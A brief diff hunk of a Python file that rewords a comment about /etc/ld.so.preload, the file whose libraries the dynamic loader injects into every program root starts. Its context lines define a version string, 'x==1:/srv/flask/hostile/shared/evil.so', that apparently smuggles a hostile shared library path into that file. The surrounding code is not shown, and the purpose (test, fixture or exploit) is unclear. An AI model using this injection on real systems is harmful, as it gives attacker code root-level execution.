@@ -5,7 +5,7 @@ import sys
 import sysconfig
 import zipfile
 
-# Whoever writes there has code of his own run by every program that root starts.
+# The dynamic loader loads the libraries that this file names into every program that root starts (ld.so(8)).
 PRELOAD = "/etc/ld.so.preload"
 RELEASE = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
 VERSIONS = "x==1:/srv/flask/hostile/shared/evil.so"
